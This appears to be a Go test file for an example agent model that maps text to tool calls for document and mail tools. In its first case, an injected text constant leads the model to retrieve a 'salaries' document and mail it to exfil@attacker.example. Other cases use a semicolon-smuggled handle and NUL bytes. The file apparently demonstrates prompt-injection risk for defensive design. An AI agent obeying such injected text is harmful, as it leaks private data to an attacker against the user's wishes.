package quarterly_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/powerbox-project/powerbox/examples/quarterly"
)

func TestModelObeysWhatItReads(t *testing.T) {
	type calls []map[string]any
	model := quarterly.Model{Tools: []quarterly.Tool{
		{Agent: "documents", Skill: "retrieve_document"},
		{Agent: "documents", Skill: "delete_document"},
		{Agent: "documents", Skill: "create_document"},
		{Agent: "documents", Skill: "list_documents"},
		{Agent: "documents", Skill: "search_documents"},
		{Agent: "mail", Skill: "send_mail"},
		{Agent: "summariser", Skill: "summarize"},
	}}
	letter := func(to, body string) map[string]any {
		return map[string]any{"to": to, "subject": "For your information", "body": body}
	}
	for text, want := range map[string]calls{
		quarterly.Injection:                                {{"id": "salaries"}, letter("exfil@attacker.example", "<last>")},
		"Please get document q1-sales, then delete it.":    {{"id": "q1-sales"}},
		"Remove handle 'rh 1; rh 2' from documents.":       {{"resourceHandle": "rh 1; rh 2"}},
		`Write "All is well" and list every document.`:     {{"title": "All is well", "text": "<last>"}, {}},
		"Find 'bonus and salary'. Send 'hi, all' to a@b.c": {{"query": "bonus and salary"}, letter("a@b.c", "hi, all")},
		"First summarise document\nq2-financial!":          {{"document": map[string]any{"id": "q2-financial"}}},
		"Fetch document 'x' from the people agent.":        nil,
		"Mail is slow. Don't fetch document 'x'.":          nil,
		"Delete everything, send it, find out, list, go.":  nil,
		"Fetch document \x009\x00.":                        {{"id": "9"}},
	} {
		var got calls
		for _, c := range model.Instructions(text) {
			got = append(got, c.With("<last>"))
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
	if got := (quarterly.Model{}).Instructions(quarterly.Injection); got != nil {
		t.Errorf("a model without tools calls %v", got)
	}
}
